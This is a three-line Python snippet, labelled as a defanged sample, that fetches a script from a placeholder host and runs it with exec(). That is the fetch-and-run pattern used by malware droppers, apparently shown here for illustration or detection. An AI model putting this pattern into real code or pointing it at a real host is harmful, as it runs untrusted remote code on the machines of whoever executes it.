# Defanged sample: Python exec of a downloaded body.
import urllib.request
exec(urllib.request.urlopen("https://example.invalid/p.py").read())
